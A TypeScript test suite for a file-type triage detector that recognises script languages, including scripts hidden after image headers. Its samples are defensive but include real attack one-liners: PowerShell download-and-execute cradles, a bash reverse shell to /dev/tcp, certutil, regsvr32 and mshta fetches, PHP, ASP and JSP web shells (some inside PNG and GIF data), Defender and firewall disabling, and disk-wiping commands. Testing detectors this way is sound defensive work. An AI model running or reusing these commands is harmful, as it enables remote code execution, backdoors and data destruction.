import { readdirSync, readFileSync } from "node:fs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { detectTypes, TRIAGE_HEAD_BYTES } from "../../src/triage/detect.ts";
import { scoreLanguages } from "../../src/triage/script-types/languages.ts";
import { sections } from "../../src/triage/script-types/tags.ts";

const CASES = new URL("../fixtures/cases/", import.meta.url);
const typesOf = (content: Uint8Array): Promise<readonly string[]> => detectTypes(content, "file", "whole");
const ofText = (text: string): Promise<readonly string[]> => typesOf(Buffer.from(text, "latin1"));
const inCase = (folder: string, name: string): Promise<readonly string[]> =>
  typesOf(readFileSync(new URL(`${folder}/${name}`, CASES)));

/** Each is short, as droppers are: what they do in few words. */
const SCRIPTS: readonly (readonly [type: string, text: string])[] = [
  [
    "text/vbscript",
    'Dim http\r\nSet http = CreateObject("MSXML2.XMLHTTP")\r\nhttp.Open "GET", "http://a.example/", 0\r\n',
  ],
  ["text/vbscript", 'MsgBox "Hello"\r\n'],
  ["text/vbscript", "x = Chr(67) & Chr(97) & Chr(108)\r\nExecute(x)\r\n"],
  ["text/vbscript", 'On Error Resume Next:Set s=CreateObject("WScript.Shell"):s.Run"calc",0\r\n'],
  [
    "text/vbscript",
    'for each p in GetObject("winmgmts:").InstancesOf("Win32_Process")\r\nwscript.echo p.Name\r\nnext\r\n',
  ],
  ["text/vbscript", 'Rem a\r\nRem b\r\nCreateObject("Shell.Application").ShellExecute "calc"\r\n'],
  ["application/x-powershell", "# a\r\n$x = Get-Content a.txt\r\n$x | Out-File b.txt\r\n"],
  [
    "application/x-powershell",
    "&('I'+'EX') ((New-Object Net.WebClient).DownloadString('http://a.example/'))",
  ],
  [
    "application/x-powershell",
    '$a = [System.Convert]::FromBase64String("AAAA")\n[System.Reflection.Assembly]::Load($a)\n',
  ],
  ["application/x-powershell", "I`E`X (n`ew-obj`ect net.webclient).downloadstring('http://a.example/')"],
  [
    "application/x-powershell",
    "$k=4;$d=@(1,2,3)|%{$_ -bxor $k};[System.Text.Encoding]::ASCII.GetString($d)|iex",
  ],
  ["application/x-powershell", "Start-Process calc.exe\r\n"],
  ["application/x-powershell", "iwr http://a.example/a.ps1 -UseBasicParsing | iex"],
  ["application/x-powershell", "wget http://a.example/a.exe -OutFile a.exe; .\\a.exe"],
  ["application/x-powershell", "function Get-X {\n  return 1\n}\nGet-X"],
  ["application/x-powershell", "Set-NetFirewallProfile -Profile Domain,Public -Enabled False"],
  ["text/vbscript", "Select Case x\nCase 1\n y = 2\nEnd Select"],
  ["application/javascript", "while(true){WScript.Sleep(1000);}"],
  ["application/javascript", "require('child_process').exec('calc')"],
  ["application/javascript", 'var x = 5;\nif (x > 3) {\n  alert("x");\n}\n'],
  ["text/x-msdos-batch", "if exist a.txt (del a.txt) else (echo no)"],
  ["text/x-msdos-batch", "bcdedit /set {default} recoveryenabled No"],
  ["text/x-msdos-batch", "net stop WinDefend"],
  ["text/x-msdos-batch", "msiexec /i http://a.example/a.msi /qn"],
  ["text/x-msdos-batch", "wscript.exe a.js"],
  ["text/x-msdos-batch", "rd /s /q c:\\"],
  ["text/x-msdos-batch", "whoami > a.txt\nipconfig /all >> a.txt\n"],
  ["text/x-python", "from tkinter import *\nroot = Tk()\nroot.mainloop()\n"],
  ["text/x-php", '<a href="<?php echo $u ?>">x</a>'],
  ["text/x-php", "<html>\n<a class=\"a\" href='<?=$u?>'>x</a></html>"],
  ["text/asp", "<% For i = 1 To 3 %>\n<%= i %>\n<% Next %>"],
  ["text/asp", '<% Session("user") = "a" %>'],
  ["application/x-powershell", "(Get-WmiObject Win32_Process -List).Create('calc')"],
  ["application/javascript", 'GetObject("script:http://a.example/a").Exec();'],
  ["application/javascript", 'window.location.href = "http://a.example/"'],
  ["text/x-msdos-batch", "net user evil P@ss /add"],
  ["text/x-msdos-batch", "certutil -urlcache -split -f http://a.example/a.exe a.exe & a.exe"],
  ["text/x-msdos-batch", "regsvr32 /s /n /u /i:http://a.example/a.sct scrobj.dll"],
  ["text/x-msdos-batch", "mshta http://a.example/a.hta"],
  ["text/x-msdos-batch", "%0|%0"],
  ["text/x-msdos-batch", "format c: /y"],
  ["text/x-msdos-batch", "wmic process call create calc.exe"],
  ["text/x-python", 'import urllib2\nprint urllib2.urlopen("http://a.example").read()\n'],
  ["text/x-shellscript", "bash -i >& /dev/tcp/192.0.2.1/80 0>&1"],
  ["text/asp", '<%@ LANGUAGE="JScript" %>\n<% var x = 1; %>'],
  ["text/x-jsp", "<%! int x = 1; %><%= x %>"],
  [
    "application/hta",
    "<script language=JScript>new ActiveXObject('WScr' + 'ipt.Shell').Run('calc')</script>",
  ],
  [
    "text/scriptlet",
    '<package><component id="x"><script language="JScript">var a=1;</script></component></package>',
  ],
  ["application/javascript", '// a\r\nvar x = WScript.CreateObject("WScript.Shell");\r\nx.Run("calc");\r\n'],
  ["application/javascript", "/* a */ eval(function(p,a,c,k,e,d){return p}('0',1,1,'a'.split('|'),0,{}))"],
  ["application/javascript", "var _0x1a2b=['a'];(function(_0x3c){return _0x3c;}(_0x1a2b));"],
  ["application/javascript", "const fs = require('fs');\nfs.writeFileSync('a', 'b');\n"],
  ["application/javascript", "import fs from 'node:fs';\nexport const a = () => fs.readFileSync('x');\n"],
  [
    "application/javascript",
    `[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]]${"[+!+[]]".repeat(40)}`,
  ],
  ["text/x-msdos-batch", ":: a\r\n:: b\r\nstart calc.exe\r\ndel %0\r\n"],
  ["text/x-msdos-batch", "rem a\r\nif exist c:\\x goto end\r\ncopy a b\r\n:end\r\n"],
  ["text/x-msdos-batch", "set a=ca\r\nset b=lc\r\n%a%%b%\r\n"],
  ["text/x-msdos-batch", "@%a:~3,1%%a:~5,1%%a:~1,1% off\r\n%a:~2,1%\r\n"],
  ["text/x-msdos-batch", "p^o^w^e^r^s^h^e^l^l -enc AAAA\r\n"],
  ["text/x-msdos-batch", "schtasks /create /tn x /tr calc.exe /sc minute\r\n"],
  ["text/x-python", '# a\n# b\nimport socket\ns=socket.socket()\ns.connect(("a.example",1))\n'],
  ["text/x-python", "exec(__import__('base64').b64decode('cHJpbnQoMSk='))"],
  [
    "text/x-python",
    '"""Words for a reader, who may be a person.\n\nMore of them in this place.\n"""\nimport sys\n\nprint(sys.argv)\n',
  ],
  ["text/x-php", "<?PHP @eval($_POST[1]);"],
  ["text/x-php", "<?=`$_GET[0]`?>"],
  ["text/x-php", '<script language="php">system($_GET["c"]);</script>'],
  ["text/x-php", "hello\n\n<?php phpinfo(); ?>"],
  ["text/asp", '<%execute(request("cmd"))%>'],
  ["text/asp", '<%@ Language="VBScript" %>\n<% Response.Write "hi" %>'],
  ["text/asp", '<script runat="server" language="vbscript">\nResponse.Write 1\n</script>'],
  ["text/aspdotnet", '<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>'],
  ["text/aspdotnet", '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Web;\n'],
  ["text/x-jsp", '<%@page import="java.util.*"%><%out.print(1);%>'],
  ["text/x-jsp", '<%Process p = Runtime.getRuntime().exec(request.getParameter("c"));%>'],
  [
    "text/x-jsp",
    '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page"><jsp:scriptlet>f();</jsp:scriptlet></jsp:root>',
  ],
  ["application/hta", '<html><head><HTA:APPLICATION ID="x"></head><body></body></html>'],
  ["application/hta", '<script language="JScript">new ActiveXObject("WScript.Shell").Run("calc");</script>'],
  [
    "application/x-wsf",
    '<?xml version="1.0"?>\n<job>\n<script language="VBScript">\nMsgBox 1\n</script>\n</job>',
  ],
  [
    "application/x-wsf",
    "' a comment of the author\n<job id='x'>\n<script language='JScript'>f();</script></job>",
  ],
  [
    "text/scriptlet",
    "<package>\n<component id='x'>\n<registration progid='x'/>\n<script language='JScript'>var r=1;</script></component></package>",
  ],
  ["application/x-encoded-script", "'**Start Encode**\r\n#@~^IAAAAA==abc==^#~@"],
  [
    "application/javascript",
    '<stylesheet xmlns:ms="urn:schemas-microsoft-com:xslt"><ms:script implements-prefix="user" language="JScript">f();</ms:script></stylesheet>',
  ],
];

const OTHER_TEXTS = [
  "PowerShell and VBScript are languages of Windows. Use Get-Content to read, and CreateObject to make an object.\nBatch files begin with @echo off.\n",
  "Dear team,\n\nPlease set the date for the next meeting, and call me if you want to open the function for all.\n",
  `{"a": "var x = new ActiveXObject('WScript.Shell')"}`,
  "# Manual\n\nHow to do it:\n\n```powershell\nGet-Content a.txt | Out-File b.txt\n```\n\n```php\n<?php echo 1;\n```\n",
  'name: build\non: push\njobs:\n  a:\n    runs-on: any\n    steps:\n      - run: echo "hi"\n',
  "[section]\nkey=value\npath=%PATH%\nname=%(x)s\n",
  'int main(void) { printf("hello"); return 0; }\n',
  "SELECT * FROM t WHERE a = 1;\nSET x = 2;\n",
  "2024-01-01 10:00:00 ERROR Start-Process failed for calc.exe\n2024-01-01 10:00:01 INFO retry\n",
  'package main\n\nimport "fmt"\n\nfunc main() {\n\tvar x = 1\n\tfmt.Println(x)\n}\n',
  '<%= link_to "x", y %>\n<% if z %>\n<% end %>\n',
  "<% _.each(items, function(item) { %>\n<li><%= item %></li>\n<% }); %>\n",
  "<html><body><script>var a = 1; document.write(a);</script></body></html>",
  '<workflow><job id="1"><script>a.sh</script></job></workflow>',
  "import java.util.Set;\npublic class A {\n  Set<Class<? extends B>> all() { return null; }\n}\n",
  "====== Heading ======\n\nText of a wiki.\n",
  "2024-01-01 process create: powershell.exe -nop -enc AAAA user=b\n2024-01-01 process create: cmd.exe /c whoami user=b\n",
  "jobs:\n  a:\n    steps:\n      - shell: pwsh\n        run: |\n          Get-ChildItem\n          echo hi\n",
  '[Version]\nSignature="$Windows NT$"\nClass=Net\n[DefaultInstall]\nCopyFiles=a.Copy\nAddReg=b.Reg\n',
  'In Visual Basic you set an object with Set x = CreateObject("A"). If errors do not matter to you, On Error Resume Next is there.',
  "CC=gcc\nall: a.o b.o\n\t$(CC) -o x $^\nclean:\n\trm -f *.o x\n.PHONY: all clean\n",
  'name,cmd,count\nfoo,"cmd.exe /c dir",1\nbar,"powershell -enc AAA",2\nbaz,"net user x /add",3\n',
  'print("<a href=\\"<?php echo 1; ?>\\">")\n',
  'alert tcp any any -> any any (msg:"x"; content:"cmd.exe /c"; sid:1;)',
];
const SCRIPT_TYPES = new Set(SCRIPTS.map(([type]) => type));

describe("the types of scripts", () => {
  it.each([
    ["comment-block.ps1", "application/x-powershell"],
    ["comment-first.vbs", "text/vbscript"],
    ["const-first.vbs", "text/vbscript"],
    ["encoded.jse", "application/javascript"],
    ["encoded.vbe", "text/vbscript"],
    ["function-first.vbs", "text/vbscript"],
    ["function.ps1", "application/x-powershell"],
    ["hta-script.hta", "application/hta"],
    ["html-then.php", "text/x-php"],
    ["iex.ps1", "application/x-powershell"],
    ["job.wsf", "application/x-wsf"],
    ["noshebang.py", "text/x-python"],
    ["oneliner.ps1", "application/x-powershell"],
    ["plain.bat", "text/x-msdos-batch"],
    ["scriptlet.sct", "text/scriptlet"],
    ["set-first.vbs", "text/vbscript"],
    ["shell.asp", "text/asp"],
    ["shell.jsp", "text/x-jsp"],
    ["short.php", "text/x-php"],
    ["utf16bom.ps1", "application/x-powershell"],
    ["wscript.js", "application/javascript"],
    ["xmljob.wsf", "application/x-wsf"],
  ])("are told by the content: %s", async (name, type) => {
    const types = await inCase("f02-scripts-untyped", name);
    expect(types).toContain(type);
    expect(types.at(-1)).toBe("text/plain");
  });

  it("are told for every file of the case", () => {
    const files = readdirSync(new URL("f02-scripts-untyped/", CASES)).filter(
      (name) => name !== "routes.json",
    );
    expect(files).toHaveLength(22);
  });

  it.each(SCRIPTS)("are told by few words: %s in %j", async (type, text) => {
    expect(await ofText(text)).toContain(type);
  });

  it.each(OTHER_TEXTS)("are not seen in what only speaks of them: %j", async (text) => {
    const types = await ofText(text);
    expect(types.filter((type) => SCRIPT_TYPES.has(type))).toEqual([]);
  });

  const SCRIPT = '\' Rechnung \u00fc\r\nSet sh = CreateObject("WScript.Shell")\r\nsh.Run "calc"\r\n';
  const utf32 = (text: string): Buffer => {
    const view = Buffer.alloc(4 * text.length);
    for (const [at, char] of [...text].entries()) view.writeUInt32LE(char.codePointAt(0)!, 4 * at);
    return view;
  };
  it.each([
    ["UTF-8", Buffer.from(SCRIPT)],
    ["UTF-8 with a byte order mark", Buffer.from(`\ufeff${SCRIPT}`)],
    ["UTF-16 LE with a byte order mark", Buffer.from(`\ufeff${SCRIPT}`, "utf16le")],
    ["UTF-16 LE", Buffer.from(SCRIPT, "utf16le")],
    ["UTF-16 BE with a byte order mark", Buffer.from(`\ufeff${SCRIPT}`, "utf16le").swap16()],
    ["UTF-16 BE", Buffer.from(SCRIPT, "utf16le").swap16()],
    [
      "UTF-16 LE, half a character at its end",
      Buffer.concat([Buffer.from(SCRIPT, "utf16le"), Buffer.from("x")]),
    ],
    ["UTF-32 LE with a byte order mark", utf32(`\ufeff${SCRIPT}`)],
    ["a code page of Western Europe", Buffer.from(SCRIPT, "latin1")],
    [
      "a code page of Japan",
      Buffer.concat([
        Buffer.from("' "),
        Buffer.from("8dc58f49", "hex"),
        Buffer.from(`\r\n${SCRIPT}`, "latin1"),
      ]),
    ],
  ])("are told in %s", async (_, content) => {
    expect(await typesOf(content)).toEqual(["text/vbscript", "text/plain"]);
  });

  it("are told behind comments that fill the head, once the whole is there", async () => {
    const comments = "' This is the licence of it, in many words.\r\n".repeat(1000);
    const script = Buffer.from(`${comments}Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n`);
    expect(script.length).toBeGreaterThan(2 * TRIAGE_HEAD_BYTES);
    expect(await typesOf(script)).toEqual(["text/vbscript", "text/plain"]);
  });

  it("are two where a text is written for two interpreters", async () => {
    const both =
      '@if (@X)==(@Y) @end /*\r\n@echo off\r\ncscript //e:jscript "%~f0" %*\r\nexit /b\r\n*/\r\nvar s = new ActiveXObject("WScript.Shell");\r\n';
    expect(await ofText(both)).toEqual(
      expect.arrayContaining(["application/javascript", "text/x-msdos-batch"]),
    );
  });

  it.each([
    ["gifphp.php", ["text/x-php", "image/gif", "text/plain"]],
    ["jpegphp.php", ["text/x-php", "image/jpeg"]],
  ])("are told behind a picture, and so is the picture: %s", async (name, types) => {
    expect(await inCase("f24-php-in-image", name)).toEqual(types);
  });

  const PNG = Buffer.from("89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de", "hex");
  it.each([
    ["PHP in a PNG", PNG, "<?php system($_GET[0]); ?>", ["text/x-php", "image/png"]],
    ["PHP with a short tag in a PNG", PNG, "<?=`$_GET[0]`?>", ["text/x-php", "image/png"]],
    ["ASP in a PNG", PNG, '<%eval request("x")%>', ["text/asp", "text/vbscript", "image/png"]],
    [
      "JSP in a PNG",
      PNG,
      '<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
      ["text/x-jsp", "image/png"],
    ],
    [
      "an application in HTML in a PNG",
      PNG,
      '<script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script>',
      ["application/hta", "text/vbscript", "image/png"],
    ],
    [
      "ASP behind the letters of a GIF",
      Buffer.from("GIF89a\n"),
      '<%eval request("x")%>',
      ["text/asp", "text/vbscript", "image/gif", "text/plain"],
    ],
    [
      "PHP at the end of a large picture",
      Buffer.concat([PNG, Buffer.alloc(300_000, 0xf1)]),
      "<?php f(); ?>",
      ["text/x-php", "image/png"],
    ],
  ])("are told behind a picture: %s", async (_, picture, script, types) => {
    expect(await typesOf(Buffer.concat([picture, Buffer.from(script)]))).toEqual(types);
  });

  it("are not seen in pictures and programs that only have the signs", async () => {
    expect(
      await typesOf(Buffer.concat([PNG, Buffer.from("<?xpacket begin='x'?> <% <? \0\xff", "latin1")])),
    ).toEqual(["image/png"]);
    const program = Buffer.concat([
      Buffer.from("7f454c4602010100", "hex"),
      Buffer.alloc(100),
      Buffer.from("<?php echo 1; ?>"),
    ]);
    expect(await typesOf(program)).toEqual(["application/x-elf"]);
  });
});

describe("the page about file types", () => {
  it("lists every type of scripts", () => {
    const page = readFileSync(new URL("../../docs/file-types.md", import.meta.url), "utf8");
    expect([...SCRIPT_TYPES].filter((type) => !page.includes(`\`${type}\``))).toEqual([]);
  });
});

describe("a text that begins like a magic number", () => {
  it.each(readdirSync(new URL("f25-short-magic/", CASES)).filter((name) => name.endsWith(".txt")))(
    "is a text and nothing else: %s",
    async (name) => {
      expect(await inCase("f25-short-magic", name)).toEqual(["text/plain"]);
    },
  );

  it("is the script that it is", async () => {
    expect(await inCase("f25-short-magic", "bm.vbs")).toEqual(["text/vbscript", "text/plain"]);
  });

  it.each(
    "BM MZ BZh CR24 Cr24 8BPS MSCF wvpk ID3 OTTO wOFF FWS CWS FLV MThd OggS RIFF PK Rar! LZIP SIT! ZOO GIF89a GIF87a fLaC FORM II* MM FLIF qoif icns BPG DICM hsqs KDMV !BDN ISc( xar! ALZ glTF SQLite QFI caff MP+ #!AMR .snd ttcf !<arch>".split(
      " ",
    ),
  )("has no type of pictures, sound, fonts or archives, in whatever encoding: %s", async (magic) => {
    const text = `${magic} is what this text begins with, and na\u00efve readers take it for more.\r\n`;
    for (const encoding of ["utf8", "latin1"] as const) {
      const types = await typesOf(Buffer.from(text, encoding));
      expect(types.filter((type) => !type.startsWith("text/"))).toEqual([]);
      expect(types).toContain("text/plain");
    }
  });

  it("does not make a short file a text that is nothing but the magic number", async () => {
    expect(await typesOf(Buffer.from("MZ"))).toContain("application/x-msdownload");
  });
});

describe("the work of telling scripts", () => {
  it.each([
    ["words", "function "],
    ["one letter", "a"],
    ["signs of all languages", "$[%{(<@#'\"`~^:="],
    ["the beginning of a phrase", "set x = "],
    ["cut words", "a`b^"],
    ["tags", "<script <? <% "],
    ["openings of comments", "/* <# \"\"\" ''' "],
    ["blank lines", "\n"],
  ])("grows with the text and no faster: %s", (_, unit) => {
    const steps = (bytes: number): number => scoreLanguages(unit.repeat(bytes / unit.length)).steps;
    expect(steps(64_000)).toBeLessThanOrEqual(4.2 * steps(16_000) + 1000);
    expect(steps(64_000)).toBeLessThan(64_000 * 40);
  });

  it("reads no part of a page twice, however its sections are nested or left open", () => {
    for (const unit of ["<%", "<%@@@", "<% x %>", "<%%>", "<% <% %>"]) {
      const page = unit.repeat(20_000);
      const read = [...sections(page, "<%", "%>")].reduce((sum, { code }) => sum + code.length, 0);
      expect(read).toBeLessThanOrEqual(page.length);
    }
  });

  it("ends for whatever text, with types that are told once", async () => {
    const unit = fc.constantFrom(
      "<?",
      "<%",
      "%>",
      "<script ",
      "language=",
      '"',
      "'",
      "#@~^",
      "\n",
      "$x",
      " = ",
      "/*",
      "```\n",
      "From: a\n",
      "Set x = CreateObject(",
      "%~dp0",
      "é",
      "\0",
    );
    const text = fc.array(unit, { maxLength: 60 }).map((units) => units.join(""));
    await fc.assert(
      fc.asyncProperty(text, async (sample) => {
        const types = await typesOf(Buffer.from(sample));
        expect(types.length).toBeGreaterThan(0);
        expect(new Set(types).size).toBe(types.length);
      }),
      { numRuns: 300 },
    );
  });
});
